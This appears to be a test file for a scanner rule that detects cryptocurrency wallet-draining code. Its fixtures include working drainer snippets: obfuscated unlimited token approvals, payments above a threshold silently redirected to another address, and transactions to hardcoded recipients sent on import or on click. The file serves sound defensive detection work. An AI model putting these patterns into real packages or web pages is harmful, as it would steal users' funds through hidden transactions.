import { examine } from '../../../test/examine.ts';
import { drainsWallet } from './drains-wallet.ts';

examine(drainsWallet, {
  speaks: [
    {
      when: 'what begins the call of a contract is put together of pieces',
      files: {
        'index.js': `const ask = (method, params) => window.ethereum.request({ method, params }); const data = spender => ['0x09', '5ea7', 'b3'].join('') + spender;
exports.signIn = async spender => { const [from] = await ask('eth_requestAccounts'); return ask('eth_sendTransaction', [{ from, data: data(spender) }]) }`,
      },
      weight: 'strong',
    },
    {
      when: 'the wallet is that of the window of a document, and a method of a class asks it for one thing after the other',
      files: {
        'index.js': `const due = { to: '0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359' };
          class Flow { constructor(provider) { this.ask = (method, params = []) => provider.request({ method, params }) } async run() { const [from] = await this.ask('eth_requestAccounts'); return this.ask('eth_sendTransaction', [{ from, to: due.to }]) } }
          export function open(doc) { const provider = doc.defaultView?.ethereum; if (!provider) return; const go = doc.createElement('button'); go.addEventListener('click', () => new Flow(provider).run()); doc.body.append(go) }`,
      },
      weight: 'strong',
    },
    {
      when: 'the wallet is one that is found among those of the page',
      files: {
        'index.js': `const is = one => one.isMetaMask; const wallet = (window.ethereum && window.ethereum.providers || [window.ethereum]).find(one => one && is(one)); const pay = async () => { const [from] = await wallet.request({ method: 'eth_requestAccounts' }); await wallet.request({ method: 'eth_sendTransaction', params: [{ from, to: '0x3f9c21b0a7d84e65b1a2c93d0e4f5a6b7c8d9e01', value: '0x1' }] }); }; pay();`,
      },
      weight: 'proof',
    },
    {
      when: 'another file holds who receives, and a function puts it into large payments',
      files: {
        'index.js': `const { RELAY } = require('./relay'); const route = tx => (BigInt(tx.value) > 5n ? { ...tx, to: RELAY } : tx); exports.send = (provider, tx) => provider.request({ method: 'eth_sendTransaction', params: [route(tx)] });`,
        'relay.js': `exports.RELAY = '0x000000000000000000000000000000000000dEaD';`,
      },
      weight: 'strong',
    },
    {
      when: 'another file holds who receives, and it is set in the payment',
      files: {
        'index.js': `const { RELAY } = require('./relay'); exports.send = (provider, tx) => { if (BigInt(tx.value) > 5n) tx.to = RELAY; return provider.request({ method: 'eth_sendTransaction', params: [tx] }); };`,
        'relay.js': `exports.RELAY = '0x000000000000000000000000000000000000dEaD';`,
      },
      weight: 'strong',
    },
    {
      when: 'it asks for a payment to a fixed recipient',
      files: {
        'index.js': `window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to: '0x0000000000000000000000000000000000000000' }] })`,
      },
      weight: 'proof',
      says: ['recipient'],
    },
    {
      when: 'it asks for a permission',
      files: {
        'index.js': `const data = '0x095ea7b3' + '0'.repeat(128); ethereum.request({ method: 'eth_' + 'sendTransaction', params: [{ data }] })`,
      },
      weight: 'proof',
    },
    {
      when: 'it asks for a signature at import',
      files: { 'index.js': `ethereum.request({ method: 'eth_signTypedData_v4', params: [] })` },
      weight: 'strong',
    },
    {
      when: 'whoever calls it has handed over the wallet, and what is asked of it is a permission for somebody else',
      files: {
        'index.js': `const word = text => text.padStart(64, '0'); exports.verify = async ({ provider, account, token }) => { const data = '0x095ea7b3' + word('0'.repeat(40)) + 'f'.repeat(64); await provider.request({ method: 'eth_sendTransaction', params: [{ from: account, to: token, data }] }); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a payment is asked of a wallet that the caller hands over, for whom the caller names',
      files: {
        'index.js': `exports.pay = (provider, from, to, value) => provider.request({ method: 'eth_sendTransaction', params: [{ from, to, value }] })`,
      },
      weight: 'context',
    },
    {
      when: 'a client of contracts, which it knows on each chain, is handed the wallet',
      files: {
        'at.js': `exports.AT = { 1: { router: '0x000000000000000000000000000000000000dEaD', fees: '0x0000000000000000000000000000000000000001' }, 137: { router: '0x0000000000000000000000000000000000000002', fees: '0x0000000000000000000000000000000000000003' } };`,
        'index.js': `const { AT } = require('./at'); exports.Client = class { constructor(provider, chain = 1) { this.provider = provider; this.at = AT[chain]; } async send(to, data) { const [from] = await this.provider.request({ method: 'eth_requestAccounts' }); return this.provider.request({ method: 'eth_sendTransaction', params: [{ from, to, data }] }); } swap(data) { return this.send(this.at.router, data); } fee(data) { return this.send(this.at.fees, data); } test(data) { return this.send('0x0000000000000000000000000000000000000004', data); } };`,
      },
      weight: 'weak',
    },
    {
      when: 'it has one of its own on each chain, and wants to be paid there',
      files: {
        'index.js': `const AT = { 1: { router: '0x000000000000000000000000000000000000dEaD', fees: '0x0000000000000000000000000000000000000001' }, 137: { router: '0x0000000000000000000000000000000000000002', fees: '0x0000000000000000000000000000000000000003' } }; exports.Client = class { constructor(provider, chain = 1) { this.provider = provider; this.at = AT[chain]; } async send(to, value) { const [from] = await this.provider.request({ method: 'eth_requestAccounts' }); return this.provider.request({ method: 'eth_sendTransaction', params: [{ from, to, value }] }); } swap(value) { return this.send(this.at.router, value); } fee(value) { return this.send(this.at.fees, value); } test(value) { return this.send('0x0000000000000000000000000000000000000004', value); } };`,
      },
      weight: 'strong',
    },
    {
      when: 'a checkout pays a well-known token to whom its caller says',
      files: {
        'index.js': `const TOKENS = { 1: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', 8453: '0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913' }; const pad = text => text.replace(/^0x/, '').padStart(64, '0'); export async function pay(chain, merchant, value) { const tx = { to: TOKENS[chain], data: '0xa9059cbb' + pad(merchant) + pad(value) }; return window.ethereum.request({ method: 'eth_sendTransaction', params: [tx] }); }`,
      },
      weight: 'weak',
    },
  ],
  silent: [
    {
      when: 'an address of another file is only compared with',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
        'index.js': `const { RELAY } = require('./relay'); exports.isRelay = tx => tx.to === RELAY; exports.send = tx => globalThis.fetch('/pay', { method: 'POST', body: JSON.stringify({ ...tx, to: tx.to.toLowerCase() }) });`,
        'relay.js': `exports.RELAY = '0x000000000000000000000000000000000000dEaD';`,
      },
    },
    {
      when: 'a provider passes on what it is asked',
      files: { 'index.js': `exports.send = (method, params) => window.ethereum.request({ method, params })` },
    },
    {
      when: 'the wallet is asked who it is',
      files: { 'index.js': `window.ethereum.request({ method: 'eth_chainId' }); window.ethereum.request({ method: 'eth_accounts' })` },
    },
  ],
});
